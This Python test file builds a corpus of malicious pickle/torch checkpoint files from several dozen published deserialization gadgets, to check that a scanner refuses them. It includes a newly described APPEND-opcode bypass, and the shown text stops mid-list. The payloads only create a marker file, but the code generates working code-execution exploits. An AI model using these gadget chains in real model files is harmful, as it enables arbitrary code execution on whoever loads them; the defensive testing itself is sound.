#!/usr/bin/env python3
"""A corpus of real, published pickle gadgets, each as a torch checkpoint (issue 33).

Usage:
    python3 tests/attacks/gadget_corpus.py OUTDIR [NAME...]   # write NAME.pt (zip) and NAME.legacy.pt
    python3 tests/attacks/gadget_corpus.py --list             # one line per gadget

Every entry is a callable that scanner advisories, CVEs or bypass reports have
shown to run a command, execute code, import, or write files when a pickle calls
it with arguments of its choosing (GHSA ids are picklescan's
github.com/mmaitre314/picklescan/security/advisories/ unless they say fickling,
github.com/trailofbits/fickling/security/advisories/). Its payload makes the
gadget do one harmless thing: create the file `ckptfix-pwned-<name>` in the
current directory (`touch` through the shell, or Python's open(); the gadgets
that read a nested pickle get one calling builtins.exec on that open()).
tests/cli/test_gadget_corpus.py proves each payload real (torch.load runs it in
a throw-away directory and the marker appears) and that every rewriting command
of ckptfix refuses the file without running anything.

Each payload is wrapped two ways, as torch.save writes checkpoints:

  zip      archive/data.pkl, archive/data/0 (a float32 storage of 4 elements),
           archive/version; the pickle is {'state_dict': OrderedDict(w=tensor),
           'payload': <the gadget call>}
  legacy   the pre-1.6 stream: magic number, protocol version and sys_info
           pickles, the same object pickle (6-tuple persistent ids), the
           storage-keys pickle, then the storage as an int64 element count and
           its bytes (torch/serialization.py, _legacy_save)

The object pickle is protocol 2 as torch.save writes it, with the call by
REDUCE; a few calls are INST or OBJ in an all protocol-1 pickle; methods
(`ConfigModule.load_config`, `Trace.runctx`) need a dotted attribute name,
which only protocol 4 resolves, so those files are protocol 4 and name the
gadget with STACK_GLOBAL, as the published proofs of concept do.

`listed` says whether the gadget lies under ckptfix's gadget list
(src/pickle/global_lists.cc, kGadgets: refused when the file is read, "the
dangerous global"); the others are what issue 33's rule is for: the pickle
*calls* a global ckptfix does not know as data. Two entries deliver a published
gadget a way no proof of concept used, found while writing this corpus: held
as an attribute `append` of a known-data object (types.SimpleNamespace built
from a mapping, or argparse.Namespace given it by BUILD), it is called by the
APPEND opcode, which calls obj.append(item) on anything that is not a list.

Pure Python, deterministic, no torch needed; nothing here unpickles anything.
The plain-data pickles of the legacy header are made with pickle.dumps.
"""

import os
import pickle
import struct
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import make_attacks as ma  # noqa: E402

MARKER_PREFIX = 'ckptfix-pwned-'

# Pickle opcodes beyond make_attacks' set.
NEWTRUE, INST, OBJ, STACK_GLOBAL, BINBYTES = b'\x88', b'i', b'o', b'\x93', b'B'
SHORT_BINUNICODE, INT_FALSE = b'\x8c', b'I00\n'

FOUR_FLOATS = ma.FOUR_FLOATS
LEGACY_MAGIC = 0x1950a86a20f9469cfc6c
LEGACY_PROTOCOL_VERSION = 1001
# Memo slots the payloads may use; the wrapping pickle uses none.
MEMO = 60


def marker(name):
    return MARKER_PREFIX + name


def code(m):
    """Python source that creates the marker file `m` in the current directory."""
    return f'open({m!r}, "w").close()'


def command(m):
    """A shell command that creates the marker file `m` in the current directory."""
    return f'touch {m}'


# ---------------------------------------------------------------------------
# Value fragments: each pushes one value on the unpickler's stack.
# ---------------------------------------------------------------------------

def short_text(s):
    b = s.encode()
    return SHORT_BINUNICODE + bytes([len(b)]) + b


def glob(module, name, proto, stack=False):
    """The global module.name: GLOBAL text, or STACK_GLOBAL (protocol 4) for a
    dotted attribute name or when `stack` asks for it."""
    if '.' in name or stack:
        assert proto >= 4, f'{module}.{name}: a dotted name needs protocol 4'
        return short_text(module) + short_text(name) + STACK_GLOBAL
    return ma.global_op(module, name)


def builtin(name, proto):
    """A builtin as CPython's pickler spells it: __builtin__ below protocol 3."""
    return ma.global_op('__builtin__' if proto < 3 else 'builtins', name)


def text(s):
    return ma.unicode_op(s)


def data(b, proto):
    """bytes: BINBYTES (protocol 3 and later), else _codecs.encode(latin-1 text,
    'latin1') as protocol 2 writes bytes (an allowlisted global)."""
    if proto >= 3:
        return BINBYTES + struct.pack('<I', len(b)) + b
    return ma.global_op('_codecs', 'encode') + ma.tuple_of([text(b.decode('latin-1')), text('latin1')]) + ma.REDUCE


def call(fn, *args):
    """fn(*args) by REDUCE."""
    return fn + ma.tuple_of(list(args)) + ma.REDUCE


def obj_call(fn, *args):
    """fn(*args) by OBJ (protocol 1): the callable sits inside the MARK."""
    return ma.MARK + fn + b''.join(args) + OBJ


def inst_call(module, name, *args):
    """module.name(*args) by INST (protocol 0): no GLOBAL opcode at all."""
    return ma.MARK + b''.join(args) + INST + module.encode() + b'\n' + name.encode() + b'\n'


def list_of(*items):
    return ma.EMPTY_LIST + (ma.MARK + b''.join(items) + ma.APPENDS if items else b'')


def dict_of(pairs):
    out = ma.EMPTY_DICT
    if pairs:
        out += ma.MARK + b''.join(text(k) + v for k, v in pairs) + ma.SETITEMS
    return out


def integer(i):
    return ma.int_op(i)


def false(proto):
    return ma.NEWFALSE if proto >= 2 else INT_FALSE


def namespace(pairs, proto):
    """argparse.Namespace() given attributes by BUILD: known data, used as the
    `self` of a method gadget that only reads attributes of it."""
    return call(glob('argparse', 'Namespace', proto)) + dict_of(pairs) + ma.BUILD


def inner_exec_pickle(m):
    """A nested protocol 2 pickle (opaque bytes to the outer one) that calls
    builtins.exec on code(m) and returns {}."""
    return (ma.proto(2) + builtin('exec', 2) + text(code(m)) + ma.TUPLE1 + ma.REDUCE + ma.POP
            + ma.EMPTY_DICT + ma.STOP)


# ---------------------------------------------------------------------------
# The corpus
# ---------------------------------------------------------------------------

class Gadget:
    """One published gadget and the payload that makes it create its marker.

    name       short id; the marker is ckptfix-pwned-<name>
    module, qualname  the global as the pickle names it
    source     where it was published (advisory, CVE, report)
    does       what calling it does
    listed     True: under ckptfix's kGadgets (refused at read time, "dangerous
               global"); False: only issue 33's rule (the pickle calls an
               unknown global) refuses it
    payload    f(marker, proto) -> pickle bytes pushing the gadget call's result
    proto      protocol of the object pickle: 2 (torch.save), 1 (INST/OBJ
               files) or 4 (STACK_GLOBAL, dotted method names)
    via        how the pickle calls it (REDUCE, INST, OBJ, ...)
    needs      'module:qualname' that must resolve in an interpreter for the
               control to run there (default: the gadget itself)
    probe      (python expression over `obj`, the first need, with inspect
               imported; why the control cannot run when it is false): for a
               gadget a release has patched
    names      the spellings ckptfix may name it by (the gadget's, and other
               gadget globals of the same payload)
    stray      paths the gadget's own code writes outside the cwd, which the
               control removes afterwards ({pid}: the loading process)
    delayed    True: the marker is made by a child process the gadget starts
               and does not wait for
    order      True: the pickle adds to an object after its BUILD, an order
               CPython never writes and ckptfix could not write back, so every
               reader refuses the file for that before judging its calls
    """

    def __init__(self, name, module, qualname, source, does, listed, payload, proto=2, via='REDUCE',
                 needs=None, probe=None, names=(), stray=(), delayed=False, order=False):
        self.name, self.module, self.qualname = name, module, qualname
        self.source, self.does, self.listed = source, does, listed
        self._payload, self.proto, self.via = payload, proto, via
        self.needs = tuple(needs) if needs is not None else (f'{module}:{qualname}',)
        self.probe = probe
        self.dotted = f'{module}.{qualname}'
        self.names = (self.dotted,) + tuple(n for n in names if n != self.dotted)
        self.stray, self.delayed, self.order = tuple(stray), delayed, order

    @property
    def marker(self):
        return marker(self.name)

    @property
    def rule(self):
        """What refuses it: 'gadget' (read time), 'order' (read time) or 'calls' (every write)."""
        return 'gadget' if self.listed else 'order' if self.order else 'calls'

    def payload(self):
        return self._payload(self.marker, self.proto)

    def __repr__(self):
        return f'Gadget({self.name}: {self.dotted})'


def G(*args, **kwargs):
    return Gadget(*args, **kwargs)


# Payload builders: f(marker, proto) -> bytes.
P = {
    # -- not under kGadgets: issue 33's call rule ---------------------------
    'pipe_pager': lambda m, p: call(glob('_pyrepl.pager', 'pipe_pager', p, stack=True), text(''), text(command(m))),
    'tempfile_pager': lambda m, p: call(glob('_pyrepl.pager', 'tempfile_pager', p), text(''),
                                        text(command(m) + ' #')),
    'aix': lambda m, p: call(glob('_aix_support', '_read_cmd_output', p), text(command(m))),
    'osx_read_output': lambda m, p: obj_call(glob('_osx_support', '_read_output', p), text(command(m))),
    'osx_find_build_tool': lambda m, p: call(glob('_osx_support', '_find_build_tool', p),
                                             text(f'ckptfix-no-such-tool; {command(m)} #')),
    'imap4_stream': lambda m, p: inst_call('imaplib', 'IMAP4_stream', text(command(m))),
    'assert_python_ok': lambda m, p: call(glob('test.support.script_helper', 'assert_python_ok', p), text('-c'),
                                          text(code(m))),
    'load_config': lambda m, p: call(glob('torch.utils._config_module', 'ConfigModule.load_config', p), ma.NONE,
                                     data(inner_exec_pickle(m), p)),
    'xxsub': lambda m, p: call(glob('_xxsubinterpreters', 'run_string', p),
                               call(glob('_xxsubinterpreters', 'create', p)), text(code(m))),
    'interp': lambda m, p: call(glob('_interpreters', 'run_string', p), call(glob('_interpreters', 'create', p)),
                                text(code(m))),
    'interp_exec': lambda m, p: call(glob('_interpreters', 'exec', p), call(glob('_interpreters', 'create', p)),
                                     text(code(m))),
    # pipes.Template() held in the memo, given a `cat` step, then opened for
    # writing to the marker: os.popen('cat >marker', 'w').
    'pipes': lambda m, p: (call(glob('pipes', 'Template', p)) + ma.binput(MEMO) + ma.POP + list_of(
        call(glob('pipes', 'Template.append', p), ma.binget(MEMO), text('cat'), text('--')),
        call(glob('pipes', 'Template.open', p), ma.binget(MEMO), text(m), text('w')))),
    # A held function called by APPEND: pickle's APPEND looks up obj.append on a
    # value that is not a list and calls it (Lib/pickle.py load_append; _pickle.c
    # do_append), so an attribute `append` of a known-data object is called.
    'append_simplenamespace': lambda m, p: (call(glob('types', 'SimpleNamespace', p),
                                                 dict_of([('append', glob('_osx_support', '_read_output', p))]))
                                            + text(command(m)) + ma.APPEND),
    'append_namespace': lambda m, p: (call(glob('argparse', 'Namespace', p))
                                      + dict_of([('append', glob('_osx_support', '_read_output', p))]) + ma.BUILD
                                      + text(command(m)) + ma.APPEND),
    # -- under kGadgets: refused when read -----------------------------------
    'uuid': lambda m, p: call(glob('uuid', '_get_command_stdout', p), text('touch'), text(m)),
    'collect_env_run': lambda m, p: call(glob('torch.utils.collect_env', 'run', p), text(command(m))),
    'run_and_read_all': lambda m, p: call(glob('torch.utils.collect_env', 'run_and_read_all', p),
                                          glob('torch.utils.collect_env', 'run', p), text(command(m))),
    'basichandlers': lambda m, p: call(glob('torch.utils.data.datapipes.utils.decoder', 'basichandlers', p),
                                       text('pickle'), data(inner_exec_pickle(m), p)),
    'execwrapper': lambda m, p: call(glob('torch.jit.unsupported_tensor_ops', 'execWrapper', p), text(code(m)),
                                     dict_of([]), dict_of([])),
    'run_cprofile': lambda m, p: call(glob('torch.utils.bottleneck.__main__', 'run_cprofile', p), text(code(m)),
                                      dict_of([])),
    'run_autograd_prof': lambda m, p: call(glob('torch.utils.bottleneck.__main__', 'run_autograd_prof', p),
                                           text(code(m)), dict_of([])),
    'evaluate_guards': lambda m, p: call(
        glob('torch.fx.experimental.symbolic_shapes', 'ShapeEnv.evaluate_guards_expression', p), ma.NONE,
        text(code(m)), list_of()),
    'guardbuilder_get': lambda m, p: call(glob('torch._dynamo.guards', 'GuardBuilder.get', p),
                                          namespace([('scope', dict_of([]))], p), text(code(m))),
    'compile_file': lambda m, p: call(glob('torch._inductor.codecache', 'compile_file', p), text(''), text(''),
                                      list_of(text('sh'), text('-c'), text(command(m)))),
    # Trace(count=0, trace=0): a tracer that does nothing but run the code.
    'trace_runctx': lambda m, p: call(glob('trace', 'Trace.runctx', p),
                                      call(glob('trace', 'Trace', p), integer(0), integer(0)),
                                      text(code(m)), dict_of([]), dict_of([])),
    'trace_run': lambda m, p: call(glob('trace', 'Trace.run', p),
                                   call(glob('trace', 'Trace', p), integer(0), integer(0)), text(code(m))),
    'profile_runctx': lambda m, p: call(glob('profile', 'Profile.runctx', p), call(glob('profile', 'Profile', p)),
                                        text(code(m)), dict_of([]), dict_of([])),
    'profile_profile_run': lambda m, p: call(glob('profile', 'Profile.run', p), call(glob('profile', 'Profile', p)),
                                             text(code(m))),
    'profile_run': lambda m, p: call(glob('profile', 'run', p), text(code(m))),
    'cprofile_run': lambda m, p: call(glob('cProfile', 'run', p), text(code(m))),
    'cprofile_runctx': lambda m, p: call(glob('cProfile', 'runctx', p), text(code(m)), dict_of([]), dict_of([])),
    'runcode': lambda m, p: call(glob('code', 'InteractiveInterpreter.runcode', p),
                                 call(glob('code', 'InteractiveInterpreter', p)), text(code(m))),
    'bdb_run': lambda m, p: call(glob('bdb', 'Bdb.run', p), call(glob('bdb', 'Bdb', p)), text(code(m))),
    'timeit': lambda m, p: call(glob('timeit', 'timeit', p), text('pass'), text(code(m))),
    'debug_script': lambda m, p: call(glob('doctest', 'debug_script', p), text(code(m)), NEWTRUE),
    'run_code': lambda m, p: call(glob('runpy', '_run_code', p), text(code(m)), dict_of([])),
    'runstring': lambda m, p: call(glob('numpy.testing._private.utils', 'runstring', p), text(code(m)), dict_of([])),
    'getlincoef': lambda m, p: call(glob('numpy.f2py.crackfortran', 'getlincoef', p), text(code(m)), list_of()),
    'spawnv_passfds': lambda m, p: call(glob('multiprocessing.util', 'spawnv_passfds', p), data(b'/bin/sh', p),
                                        list_of(*[data(a, p) for a in (b'/bin/sh', b'-c', command(m).encode())]),
                                        list_of()),
    'unix_subprocess': lambda m, p: call(glob('asyncio.unix_events', '_UnixSubprocessTransport._start', p),
                                         namespace([], p), text(command(m)), NEWTRUE, ma.NONE, ma.NONE, ma.NONE,
                                         integer(0)),
    'pty_spawn': lambda m, p: call(glob('pty', 'spawn', p), list_of(text('touch'), text(m))),
    'filehandler': lambda m, p: obj_call(glob('logging', 'FileHandler', p), text(m)),
    'fileio': lambda m, p: call(glob('_io', 'FileIO', p), text(m), text('w')),
    'write_file': lambda m, p: call(glob('distutils.file_util', 'write_file', p), text(m), list_of(text('x'))),
    'methodcaller_locate': lambda m, p: call(call(glob('operator', 'methodcaller', p), text('system'),
                                                  text(command(m))),
                                             call(glob('pydoc', 'locate', p), text('os'))),
    'attrgetter_import': lambda m, p: call(call(call(glob('_operator', 'attrgetter', p), text('system')),
                                                call(builtin('__import__', p), text('os'))), text(command(m))),
    'cdll_system': lambda m, p: call(call(glob('operator', 'methodcaller', p), text('system'),
                                          data(command(m).encode(), p)),
                                     call(glob('ctypes', 'CDLL', p), ma.NONE)),
    'resolve_name': lambda m, p: call(call(glob('pkgutil', 'resolve_name', p), text('os:system')), text(command(m))),
    'pipepager': lambda m, p: inst_call('pydoc', 'pipepager', text(''), text(command(m))),
    'import_module': lambda m, p: call(call(glob('operator', 'methodcaller', p), text('system'), text(command(m))),
                                       call(glob('importlib', 'import_module', p), text('os'))),
    # _run_pip formats its `args` into Python source run by a child interpreter.
    'run_pip': lambda m, p: call(glob('ensurepip', '_run_pip', p),
                                 text(f'[]\n{code(m)}\nraise SystemExit(0)\n#')),
    'pip_main': lambda m, p: call(glob('pip', 'main', p), list_of(*[text(a) for a in (
        '--isolated', '--disable-pip-version-check', '--no-input', '--log', m, 'list')])),
    'grammar_loads': lambda m, p: call(glob('lib2to3.pgen2.grammar', 'Grammar.loads', p),
                                       call(glob('lib2to3.pgen2.grammar', 'Grammar', p)),
                                       data(inner_exec_pickle(m), p)),
    'os_system': lambda m, p: call(glob('os', 'system', p), text(command(m))),
    'exec': lambda m, p: call(builtin('exec', p), text(code(m))),
    'eval': lambda m, p: call(builtin('eval', p), text(code(m))),
    'subprocess_run': lambda m, p: call(glob('subprocess', 'run', p), list_of(text('touch'), text(m))),
    'yaml': lambda m, p: call(glob('yaml', 'unsafe_load', p),
                              text(f'!!python/object/apply:os.system [{command(m)!r}]')),
    'sympify': lambda m, p: call(glob('sympy.core.sympify', 'sympify', p), text(code(m))),
}

_GHSA = 'picklescan GHSA-'
_FICKLING = 'fickling GHSA-'

GADGETS = [
    # ---- the call rule of issue 33 found these; issue 66 put the private
    # ---- helpers (_pyrepl, _aix_support, _osx_support, the subinterpreters)
    # ---- under kGadgets too, so they are refused when the file is read ----
    G('pyrepl_pipe_pager', '_pyrepl.pager', 'pipe_pager',
      _GHSA + 'g38g-8gr9-h9xp (CVE-2026-56315; picklescan 1.0.4), PoC GHSA-g38g-8gr9-h9xp-pyrepl-pager.pkl',
      'subprocess.Popen(cmd, shell=True), text fed to its stdin (Python >= 3.13)', True, P['pipe_pager'], proto=4,
      via='STACK_GLOBAL + REDUCE'),
    G('pyrepl_tempfile_pager', '_pyrepl.pager', 'tempfile_pager',
      _GHSA + 'g38g-8gr9-h9xp (CVE-2026-56315): "_pyrepl.pager.pipe_pager/tempfile_pager execute commands"',
      'os.system(cmd + " " + a temporary file) (Python >= 3.13)', True, P['tempfile_pager']),
    G('aix_read_cmd_output', '_aix_support', '_read_cmd_output',
      _GHSA + 'g38g-8gr9-h9xp (CVE-2026-56315); ' + _FICKLING + '5hwf-rc88-82xm',
      'os.system(commandstring + " >/tmp/_aix_support.PID")', True, P['aix'], stray=('/tmp/_aix_support.{pid}',)),
    G('osx_read_output', '_osx_support', '_read_output',
      _GHSA + 'g38g-8gr9-h9xp (CVE-2026-56315); ' + _FICKLING + '5hwf-rc88-82xm',
      'os.system(commandstring + " >tempfile")', True, P['osx_read_output'], proto=1, via='OBJ'),
    G('osx_find_build_tool', '_osx_support', '_find_build_tool',
      _FICKLING + '5hwf-rc88-82xm (test_missing_osx_support: "x; echo INJECTED #")',
      'os.system("/usr/bin/xcrun -find " + toolname): shell injection', True, P['osx_find_build_tool']),
    # ---- not under kGadgets: only the call rule of issue 33 refuses these ----
    G('script_helper_assert_python_ok', 'test.support.script_helper', 'assert_python_ok',
      _GHSA + 'g38g-8gr9-h9xp (CVE-2026-56315), PoC GHSA-g38g-8gr9-h9xp-test.pkl; ' + _FICKLING + 'pc6j-px3p-rrj4',
      'runs sys.executable with the given arguments (-c CODE)', False, P['assert_python_ok']),
    G('config_module_load_config', 'torch.utils._config_module', 'ConfigModule.load_config',
      _GHSA + 'vv6j-3g6g-2pvj (torch.utils._config_module.ConfigModule.load_config)',
      'pickle.loads(its argument): a nested pickle ckptfix cannot see into (torch >= 2.0)', False,
      P['load_config'], proto=4, via='STACK_GLOBAL + REDUCE'),
    G('xxsubinterpreters_run_string', '_xxsubinterpreters', 'run_string',
      _FICKLING + '6ggj-6f2q-f7mx (_interpreters/_xxsubinterpreters create + run_string)',
      'runs Python source in a new subinterpreter (Python <= 3.12)', True, P['xxsub'],
      needs=('_xxsubinterpreters:run_string', '_xxsubinterpreters:create'),
      names=('_xxsubinterpreters.create',)),
    G('interpreters_run_string', '_interpreters', 'run_string',
      _FICKLING + '6ggj-6f2q-f7mx (_interpreters/_xxsubinterpreters create + run_string)',
      'runs Python source in a new subinterpreter (Python >= 3.13)', True, P['interp'],
      needs=('_interpreters:run_string', '_interpreters:create'), names=('_interpreters.create',)),
    G('interpreters_exec', '_interpreters', 'exec',
      _FICKLING + '6ggj-6f2q-f7mx (_interpreters: create, then run code; exec is what run_string wraps)',
      'exec(code) in a new subinterpreter (Python >= 3.13)', True, P['interp_exec'],
      needs=('_interpreters:exec', '_interpreters:create'), names=('_interpreters.create',)),
    G('pipes_template_open', 'pipes', 'Template.open',
      'fickling PR #312 "Block imp and pipes" ("pipes.Template runs shell commands")',
      'os.popen(the template\'s pipeline + " >file", "w") (Python <= 3.12)', False, P['pipes'], proto=4,
      via='STACK_GLOBAL + REDUCE (Template(), .append, .open)', needs=('pipes:Template.open',),
      names=('pipes.Template', 'pipes.Template.append'), delayed=True),

    # The published _osx_support._read_output, never the callable of a REDUCE:
    # held as a value (an attribute of a known-data object), then called by
    # APPEND. Found while building this corpus (issue 33); ckptfix's call
    # analysis must count APPEND/APPENDS on a non-list as calls of its
    # append/extend attribute.
    G('append_on_simplenamespace', '_osx_support', '_read_output',
      _GHSA + 'g38g-8gr9-h9xp (the gadget); delivered by APPEND on types.SimpleNamespace({"append": gadget})',
      'SimpleNamespace(mapping) (Python >= 3.13) sets .append; APPEND calls it: os.system(cmd)', True,
      P['append_simplenamespace'], via='APPEND on a known-data object',
      needs=('types:SimpleNamespace', '_osx_support:_read_output'),
      probe=("obj({'a': 1}).a == 1", 'types.SimpleNamespace takes no positional mapping before Python 3.13')),
    G('append_on_namespace', '_osx_support', '_read_output',
      _GHSA + 'g38g-8gr9-h9xp (the gadget); delivered by BUILD {"append": gadget} on argparse.Namespace, then APPEND',
      'BUILD sets .append of an argparse.Namespace; APPEND calls it: os.system(cmd)', True,
      P['append_namespace'], via='BUILD, then APPEND on a known-data object', order=True),

    # ---- under kGadgets: refused when the file is read -----------------------
    G('imaplib_imap4_stream', 'imaplib', 'IMAP4_stream',
      _GHSA + 'g38g-8gr9-h9xp (CVE-2026-56315); ' + _FICKLING + 'h4rm-mm56-xf63 (imaplib)',
      'subprocess.Popen(command, shell=True) to talk IMAP over its pipes', True, P['imap4_stream'], proto=1,
      via='INST'),
    G('uuid_get_command_stdout', 'uuid', '_get_command_stdout',
      _GHSA + 'g38g-8gr9-h9xp (CVE-2026-56315); ' + _FICKLING + '5hwf-rc88-82xm',
      'subprocess.Popen((which(command), *args))', True, P['uuid']),
    G('collect_env_run', 'torch.utils.collect_env', 'run', _GHSA + 'f745-w6jp-hpxx',
      'subprocess.Popen(command, shell=True)', True, P['collect_env_run']),
    G('collect_env_run_and_read_all', 'torch.utils.collect_env', 'run_and_read_all', _GHSA + 'jhph-76pp-mggw',
      'run_lambda(command), here collect_env.run', True, P['run_and_read_all'],
      names=('torch.utils.collect_env.run',)),
    G('datapipes_basichandlers', 'torch.utils.data.datapipes.utils.decoder', 'basichandlers',
      _GHSA + 'h3qp-7fh3-f8h4', 'pickle.loads(data) for the extension "pickle": a nested pickle', True,
      P['basichandlers']),
    G('jit_execwrapper', 'torch.jit.unsupported_tensor_ops', 'execWrapper', _GHSA + 'vr7h-p6mm-wpmh',
      'exec(code, glob, loc)', True, P['execwrapper']),
    G('bottleneck_run_cprofile', 'torch.utils.bottleneck.__main__', 'run_cprofile', _GHSA + '4r9r-ch6f-vxmx',
      'exec(code, globs) under cProfile', True, P['run_cprofile']),
    G('bottleneck_run_autograd_prof', 'torch.utils.bottleneck.__main__', 'run_autograd_prof',
      _GHSA + '4whj-rm5r-c2v8', 'exec(code, globs) under the autograd profiler', True, P['run_autograd_prof']),
    G('fx_evaluate_guards_expression', 'torch.fx.experimental.symbolic_shapes', 'ShapeEnv.evaluate_guards_expression',
      _GHSA + 'f4x7-rfwp-v3xw', 'eval(code, SYMPY_INTERP, ...) (torch >= 2.1)', True, P['evaluate_guards'], proto=4,
      via='STACK_GLOBAL + REDUCE'),
    G('dynamo_guardbuilder_get', 'torch._dynamo.guards', 'GuardBuilder.get', _GHSA + '86cj-95qr-2p4f',
      'eval(name, self.scope, ...) (torch 2.x before the guard rewrite; self is an argparse.Namespace)', True,
      P['guardbuilder_get'], proto=4, via='STACK_GLOBAL + REDUCE',
      probe=("'eval(' in inspect.getsource(obj)", "this torch's GuardBuilder.get no longer evals a string")),
    G('inductor_compile_file', 'torch._inductor.codecache', 'compile_file',
      'picklescan tests malicious17.pkl ("compile_file(\'\', \'\', [\'sh\', \'-c\', ...])", 0.0.22 fixes)',
      'subprocess.check_output(cmd) (torch 2.x while codecache had it)', True, P['compile_file']),
    G('trace_runctx', 'trace', 'Trace.runctx', _GHSA + 'g344-hcph-8vgg',
      'exec(cmd, globals, locals) (self: Trace(0, 0))', True, P['trace_runctx'], proto=4,
      via='STACK_GLOBAL + REDUCE', names=('trace.Trace',)),
    G('trace_run', 'trace', 'Trace.run', _GHSA + '5qwp-399c-mjwf', 'exec(cmd) in __main__ (self: Trace(0, 0))', True,
      P['trace_run'], proto=4, via='STACK_GLOBAL + REDUCE', names=('trace.Trace',)),
    G('profile_runctx', 'profile', 'Profile.runctx', _GHSA + '6vqj-c2q5-j97w', 'exec(cmd, globals, locals)', True,
      P['profile_runctx'], proto=4, via='STACK_GLOBAL + REDUCE', names=('profile.Profile',)),
    G('profile_profile_run', 'profile', 'Profile.run', _GHSA + 'x696-vm39-cp64', 'exec(cmd) in __main__', True,
      P['profile_profile_run'], proto=4, via='STACK_GLOBAL + REDUCE', names=('profile.Profile',)),
    G('profile_run', 'profile', 'run', _GHSA + '7wx9-6375-f5wh', 'exec(statement) in __main__, prints stats', True,
      P['profile_run']),
    G('cprofile_run', 'cProfile', 'run', _GHSA + '49gj-c84q-6qm9; ' + _FICKLING + 'p523-jq9w-64x9',
      'exec(statement) in __main__', True, P['cprofile_run']),
    G('cprofile_runctx', 'cProfile', 'runctx', _GHSA + '9w88-8rmg-7g2p', 'exec(statement, globals, locals)', True,
      P['cprofile_runctx']),
    G('code_interactiveinterpreter_runcode', 'code', 'InteractiveInterpreter.runcode',
      _GHSA + 'cj3c-v495-4xqh; ' + _FICKLING + 'q5qq-mvfm-j35x', 'exec(code, self.locals)', True, P['runcode'],
      proto=4, via='STACK_GLOBAL + REDUCE', names=('code.InteractiveInterpreter',)),
    G('bdb_run', 'bdb', 'Bdb.run', 'picklescan tests malicious15 ("Mark debugger modules as unsafe", 0.0.16)',
      'exec(cmd) under a do-nothing debugger', True, P['bdb_run'], proto=4, via='STACK_GLOBAL + REDUCE',
      names=('bdb.Bdb',)),
    G('timeit_timeit', 'timeit', 'timeit', 'picklescan tests malicious21 (timeit added in 0.0.25); GHSA-v7x6-rv5q-mhwc',
      'compiles and runs setup and stmt', True, P['timeit']),
    G('doctest_debug_script', 'doctest', 'debug_script', _GHSA + 'fqq6-7vqf-w3fg', 'exec(src) (pm=True)', True,
      P['debug_script']),
    G('runpy_run_code', 'runpy', '_run_code', 'picklescan tests malicious14 (runpy, 0.0.16); ' + _FICKLING
      + 'wfq2-52f7-7qvj', 'exec(code, run_globals)', True, P['run_code']),
    G('numpy_runstring', 'numpy.testing._private.utils', 'runstring',
      'picklescan tests malicious22 (numpy.testing._private.utils added in 0.0.25)', 'exec(astr, dict)', True,
      P['runstring']),
    G('numpy_f2py_getlincoef', 'numpy.f2py.crackfortran', 'getlincoef', _GHSA + 'r8g5-cgf2-4m4m',
      'eval(e) of a Fortran expression', True, P['getlincoef']),
    G('multiprocessing_spawnv_passfds', 'multiprocessing.util', 'spawnv_passfds', _FICKLING + 'q5qq-mvfm-j35x',
      '_posixsubprocess.fork_exec: runs a program, does not wait for it', True, P['spawnv_passfds'], delayed=True),
    G('asyncio_unix_subprocess_start', 'asyncio.unix_events', '_UnixSubprocessTransport._start',
      _GHSA + 'f7qq-56ww-84cr and GHSA-jgw4-cr84-mqxg (CVE-2025-10157 class: a submodule of a listed module)',
      'subprocess.Popen(args, shell=shell) (self: an argparse.Namespace)', True, P['unix_subprocess'], proto=4,
      via='STACK_GLOBAL + REDUCE', delayed=True),
    G('pty_spawn', 'pty', 'spawn', _GHSA + 'vqmv-47xg-9wpr; ' + _FICKLING + 'r7v6-mfhq-g3m2; fickling PR #108',
      'forks and execs argv on a pseudo-terminal', True, P['pty_spawn']),
    G('logging_filehandler', 'logging', 'FileHandler', _GHSA + 'm7j5-r2p5-c39r (CVE-2026-56304)',
      'opens (creates) the named file for appending', True, P['filehandler'], proto=1, via='OBJ'),
    G('io_fileio', '_io', 'FileIO', _GHSA + '9726-w42j-3qjr', 'opens a file by name (mode "w" creates it)', True,
      P['fileio']),
    G('distutils_write_file', 'distutils.file_util', 'write_file', _GHSA + 'm273-6v24-x4m4',
      'writes the given lines to the named file (distutils, or setuptools\' shim)', True, P['write_file']),
    G('operator_methodcaller_pydoc_locate', 'operator', 'methodcaller', _GHSA + '84r2-jw7c-4r5q',
      'methodcaller("system", cmd)(pydoc.locate("os"))', True, P['methodcaller_locate'],
      names=('pydoc.locate',)),
    G('operator_attrgetter_import', '_operator', 'attrgetter', _GHSA + '46h3-79wf-xr6c',
      'attrgetter("system")(__import__("os"))(cmd)', True, P['attrgetter_import'],
      names=('__builtin__.__import__', 'builtins.__import__')),
    G('ctypes_cdll', 'ctypes', 'CDLL', _GHSA + '4675-36f9-wf6r',
      'CDLL(None) is libc: methodcaller("system", b"cmd") on it', True, P['cdll_system'],
      names=('operator.methodcaller',)),
    G('pkgutil_resolve_name', 'pkgutil', 'resolve_name', _GHSA + 'vvpj-8cmc-gx39',
      'resolve_name("os:system") returns os.system, then called', True, P['resolve_name']),
    G('pydoc_pipepager', 'pydoc', 'pipepager', 'picklescan tests malicious18 (pydoc, 0.0.22)',
      'subprocess.Popen(cmd, shell=True)', True, P['pipepager'], proto=1, via='INST'),
    G('importlib_import_module', 'importlib', 'import_module', _FICKLING + 'q5qq-mvfm-j35x; picklescan PR #74',
      'methodcaller("system", cmd)(import_module("os"))', True, P['import_module'],
      names=('operator.methodcaller',)),
    G('ensurepip_run_pip', 'ensurepip', '_run_pip', _GHSA + 'xp4f-hrf8-rxw7',
      'runs sys.executable -c source formatted from `args`: Python injection', True, P['run_pip']),
    G('pip_main', 'pip', 'main', 'CVE-2025-1716 (picklescan < 0.0.21: pip.main installs packages)',
      'runs pip with the given arguments (here list, logging to the marker)', True, P['pip_main']),
    G('lib2to3_grammar_loads', 'lib2to3.pgen2.grammar', 'Grammar.loads', _GHSA + 'f54q-57x4-jg88',
      'pickle.loads(pkl): a nested pickle (Python <= 3.12)', True, P['grammar_loads'], proto=4,
      via='STACK_GLOBAL + REDUCE', names=('lib2to3.pgen2.grammar.Grammar',)),
    G('os_system', 'os', 'system', 'Slaviero, "Sour Pickles", Black Hat USA 2011; picklescan tests malicious2',
      'runs a shell command', True, P['os_system']),
    G('builtins_exec', '__builtin__', 'exec', 'picklescan tests malicious10 / broken_model.pkl (builtins.exec)',
      'exec(source)', True, P['exec'], needs=('builtins:exec',), names=('builtins.exec',)),
    G('builtins_eval', '__builtin__', 'eval', 'picklescan tests malicious1 (builtins.eval); Sour Pickles 2011',
      'eval(source)', True, P['eval'], needs=('builtins:eval',), names=('builtins.eval',)),
